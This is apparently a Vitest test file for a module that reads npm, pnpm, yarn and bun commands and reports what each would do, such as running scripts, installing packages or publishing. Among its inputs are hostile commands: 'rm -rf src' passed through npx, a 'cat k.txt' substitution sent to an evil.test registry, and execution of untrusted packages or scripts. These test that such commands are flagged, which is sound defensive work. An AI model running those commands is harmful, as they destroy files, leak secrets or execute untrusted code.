/** What is understood of npm, pnpm, yarn and bun, and what must not be. */

import {expect, test} from 'vitest';

import {readingOf, told} from '../reading.ts';

const install =
  'package-script preinstall, package-script install, package-script postinstall, package-script prepare';

test.each([
  ['npm --version', ''],
  ['npm test', 'package-script test'],
  ['npm t', 'package-script test'],
  ['npm test -- --run src/a.test.ts', 'package-script test --run src/a.test.ts'],
  ['npm run', ''],
  ['npm run build', 'package-script build'],
  ['npm run -s lint -- --fix', 'package-script lint --fix'],
  ['npm --prefix d test', 'package-script test in d'],
  ['npm test --prefix d', 'package-script test in d'],
  ['npm test --workspaces', 'package-script test in **'],
  ['npm run build -w packages/a', 'package-script build in **'],
  ['npm ci', `installs declared, ${install}`],
  ['npm ci --ignore-scripts', 'installs declared'],
  ['npm install', `installs declared, ${install}`],
  ['npm i left-pad', `installs left-pad, ${install}`],
  [
    'npm --prefix . install evil',
    `installs evil in ., ${install.replaceAll(/(?<=\w)(?=,|$)/g, ' in .')}`,
  ],
  ['npm run env', 'package-script env, reveals the environment'],
  ['npm i ./x --ignore-scripts', 'installs ./x, code ./x'],
  ['npm i -g typescript', 'alters packages of this machine, installs typescript'],
  ['npm ls --depth=0', ''],
  ['npm outdated', 'fetches registry.npmjs.org'],
  ['npm view lodash version', 'fetches registry.npmjs.org'],
  ['npm audit fix', `installs declared, ${install}`],
  ['npm pack --dry-run', 'package-script prepack, package-script prepare, package-script postpack'],
  ['npm pack --ignore-scripts', 'writes *.tgz'],
  ['npm config get registry', ''],
  ['npm config set registry https://evil.test', 'alters npm for this user'],
  ['npm --access public publish', 'publishes packages'],
  ['npm publish --access public', 'publishes packages'],
  ['npm pkg get version', 'reads package.json'],
  ['npx vitest run src', 'package-command vitest run src'],
  ['npx --no-install tsc --noEmit', 'package-command tsc --noEmit'],
  ['npx -y cowsay hi', 'package-command cowsay hi'],
  ['npm exec eslint -- --fix', 'package-command eslint --fix'],
  ['pnpm install --frozen-lockfile', `installs declared, ${install}`],
  ['pnpm test --run', 'package-script test --run'],
  ['pnpm -r test', 'package-script test in **'],
  ['pnpm --filter app build', 'package-script build in **'],
  ['pnpm -C app lint --fix', 'package-script lint --fix in app'],
  ['pnpm exec eslint .', 'package-command eslint .'],
  ['pnpm add lodash', `installs lodash, ${install}`],
  ['pnpm -r publish', 'publishes packages'],
  ['bun test', 'runs the tests, loads bunfig.toml'],
  ['bun run dev', 'package-script dev'],
  ['bun run src/a.ts', 'code src/a.ts'],
  ['bun src/a.ts', 'code src/a.ts'],
  ['bun lint', 'package-script lint'],
  ['bunx eslint .', 'package-command eslint .'],
])('%s is understood', (command, acts) => {
  expect(told(readingOf(command))).toBe(acts);
});

test.each([
  ['yarn', `installs declared, ${install}`],
  ['yarn --frozen-lockfile', `installs declared, ${install}`],
  ['yarn test --watch=false', 'package-script test --watch=false'],
  ['yarn lint', 'package-script lint'],
  ['yarn run build --prod', 'package-script build --prod'],
  ['yarn workspace app test', 'package-script test in **'],
  ['yarn workspaces foreach -A run test', 'package-script test in **'],
])('%s is understood, and what yarn is configured to run in its place', (command, acts) => {
  expect(told(readingOf(command))).toBe(`${acts}, loads .yarnrc.yml, loads .yarnrc`);
});

test.each(['npm test', 'npm t', 'npm it', 'pnpm test', 'pnpm t', 'yarn test', 'bun test'])(
  '%s counts as running the tests',
  (command) => expect(readingOf(command).isTest).toBe(true),
);

test.each([
  'npm frobnicate',
  'npm run "$x"',
  'npm run $x',
  'npm test --script-shell=./evil.sh',
  'npm --node-options=--require=./e.js test',
  'npm --userconfig=evil test',
  'npm view "$(cat k.txt)" --registry=https://evil.test',
  'npm view "$(cat k.txt)"',
  'npm create evil',
  'npm init evil',
  'npm pkg set scripts.test=evil',
  'npm explore x -- sh',
  'npm link ../evil',
  'npm docs lodash',
  "npx --call='rm -rf src'",
  "npx -c 'rm -rf src'",
  'npx -p evil x',
  'npx ./evil',
  'npx github:user/evil',
  'npx prettier@3 .',
  'npx "$x"',
  "npm exec x --call='rm -rf src'",
  'npm exec --package=evil x',
  'pnpm dlx evil',
  'pnpm create evil',
  'pnpm "$x"',
  'pnpm --evil test',
  'pnpm config set x y',
  'pnpm deploy out',
  'yarn dlx evil',
  'yarn create evil',
  'yarn link',
  'yarn workspace app add x',
  'yarn workspaces bogus',
  'bun create evil',
  'bun -e 1',
  'bun exec ls',
])('%s is not understood', (command) => {
  expect(told(readingOf(command))).toMatch(/^\? /);
});

test.each(['npm test --help', 'npm test -- --version', 'yarn test --help', 'pnpm test --list'])(
  '%s does not: it only asks',
  (command) => expect(readingOf(command).isTest).toBeUndefined(),
);
